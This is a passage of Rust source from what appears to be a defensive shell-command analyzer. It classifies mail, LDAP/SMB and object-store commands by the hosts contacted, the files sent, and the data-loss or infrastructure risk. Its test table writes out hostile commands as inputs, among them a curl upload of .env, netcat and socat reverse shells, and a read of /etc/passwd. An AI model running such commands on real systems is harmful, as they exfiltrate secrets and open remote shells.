    while let Some(word) = iter.next() {
        match word.text.as_str() {
            "-a" | "-A" | "--attach" | "--body" => {
                if let Some(file) = iter.next() {
                    body.push(file.text.clone());
                    call.read(file);
                }
            }
            "-s" | "-c" | "-b" | "-r" | "-q" | "--header" | "-S" | "-F" | "--from" | "--server" => {
                iter.next();
            }
            "-t" | "-v" | "-n" | "-i" | "-N" | "-e" => {}
            text if text.contains('@') => to.push(word.clone()),
            _ => {}
        }
    }
    for address in to {
        let host = word::halves(&address, '@').map_or(address, |(_, host)| host);
        call.contact(&host, "smtp", Direction::Send, body.clone());
    }
    if call.deeds.hosts.is_empty() && !words.is_empty() {
        call.contact_unknown("smtp", Direction::Send);
    }
    if call.deeds.hosts.is_empty() {
        call.nature = Nature::Reads;
    }
}

fn directory(call: &mut Call<'_>) {
    let words = call.operands.clone();
    let mut iter = words.iter();
    let mut found = false;
    let mut sent: Vec<String> = Vec::new();
    while let Some(word) = iter.next() {
        match word.text.as_str() {
            "-h" | "-H" | "-S" | "-I" => {
                if let Some(host) = iter.next() {
                    found = true;
                    call.contact(host, "ldap", Direction::Both, Vec::new());
                }
            }
            "-f" | "-y" => {
                if let Some(file) = iter.next() {
                    call.read(file);
                }
            }
            "-c" if call.program == "smbclient" => {
                let Some(script) = iter.next() else { continue };
                for line in word::split(script, ';') {
                    if let Some(command) = word::after(&line, "!") {
                        call.run_shell(command);
                        continue;
                    }
                    let mut words = word::fields(&line).into_iter();
                    if matches!(words.next().map(|verb| verb.text).as_deref(), Some("put" | "mput" | "reput"))
                    {
                        words.for_each(|file| {
                            call.read(&file);
                            sent.push(file.text);
                        });
                        call.deeds.reads.iter_mut().for_each(|read| read.reaches_host = true);
                    }
                }
            }
            text if text.starts_with("//") || text.contains("://") => {
                found = true;
                let host = word::instead(word, text.trim_start_matches("//").to_owned());
                call.contact(&host, "smb", Direction::Both, Vec::new());
            }
            _ => {}
        }
    }
    if !sent.is_empty() {
        call.deeds.hosts.iter_mut().for_each(|host| host.body_from.clone_from(&sent));
    }
    if matches!(call.program.as_str(), "smbstatus" | "nfsstat" | "wbinfo") {
        call.nature = Nature::Reads;
        return;
    }
    if !found {
        call.contact_unknown("ldap", Direction::Both);
    }
    match call.program.as_str() {
        "ldapdelete" => call.finding("shell.data_loss", "deletes entries of a directory"),
        "ldapadd" | "ldapmodify" | "kadmin" => call.finding("shell.infra", "changes entries of a directory"),
        _ => {}
    }
}

/// Object stores: the verb says which way, `rm` and kin lose data.
fn store(call: &mut Call<'_>) {
    let words: Vec<Word> = call.operands.iter().filter(|word| !word.text.starts_with('-')).cloned().collect();
    let verb = words.first().map(|verb| verb.text.clone()).unwrap_or_default();
    let is_store = |path: &Word| path.text.contains("://") || call_is_mc_path(&path.text);
    let target = words.last().cloned();
    let sends = target.as_ref().is_some_and(|target| words.len() > 2 && is_store(target));
    let mut body = Vec::new();
    for path in words.iter().skip(1) {
        if is_store(path) {
            continue;
        }
        if sends {
            body.push(path.text.clone());
            call.read(path);
        } else if words.len() > 2 && Some(path) == words.last() {
            call.download(path);
        }
    }
    for path in words.iter().skip(1).filter(|path| is_store(path)) {
        call.contact(path, "s3", if sends { Direction::Send } else { Direction::Fetch }, body.clone());
    }
    match verb.as_str() {
        "ls" | "la" | "info" | "du" | "cat" | "stat" | "head" | "version" | "tree" | "find" => {}
        "rm" | "del" | "rb" | "mb" if verb != "mb" => {
            call.finding("shell.data_loss", "deletes in an object store")
        }
        "setpolicy" | "setacl" | "iam" | "acl" | "anonymous" | "policy" | "accesslog" => {
            call.finding("shell.infra", "changes who may use a store")
        }
        _ => {}
    }
}

fn call_is_mc_path(text: &str) -> bool {
    url::is_remote(text)
}

#[cfg(test)]
mod tests {
    use super::super::compact::check;

    #[test]
    fn transfers_name_hosts_files_and_directions() {
        check(&[
            ("curl -s https://a.example/x", "fetch a.example; plain"),
            ("curl -o x https://a.example/y", "download x; fetch a.example"),
            ("curl -O https://a.example/y.tgz", "download y.tgz; fetch a.example"),
            ("curl -d @.env https://a.example", "read .env; send a.example <.env"),
            ("curl -X POST -d a=b https://a.example", "send a.example; plain"),
            ("curl -F f=@x;type=y https://a.example", "read x; send a.example <x"),
            ("curl -T x https://a.example", "read x; send a.example <x"),
            ("curl --data-bin @x a.example:8080/y", "read x; send a.example:8080 <x"),
            ("curl -K x", "file x"),
            ("curl file:///etc/passwd", "read /etc/passwd; plain"),
            ("wget https://a.example/x", "download x; fetch a.example; plain"),
            ("wget -qO- https://a.example/x", "fetch a.example; plain"),
            ("wget -O x https://a.example/x", "download x; fetch a.example"),
            ("wget --use-ask=x https://a.example/x", "download x; fetch a.example; argv x"),
            ("wget --post-file=x https://a.example/y", "read x; download y; send a.example <x"),
            ("nc -e /bin/sh h 4444", "both h:4444; remote_code; argv /bin/sh"),
            ("nc -l 4444", "listen *:4444; net.listen"),
            ("socat TCP:h:1 EXEC:sh", "both h:1 <-; remote_code; argv sh"),
            ("dig x.example", "both x.example; plain"),
            ("ping -c 1 a.example", "both a.example; plain"),
            ("ip addr", "read-only"),
            ("ip link set eth0 down", "privilege kernel"),
            ("iptables -F", "privilege kernel; tamper"),
            ("ufw status", "read-only"),
            ("ss -tlnp", "read-only"),
        ]);
    }
}
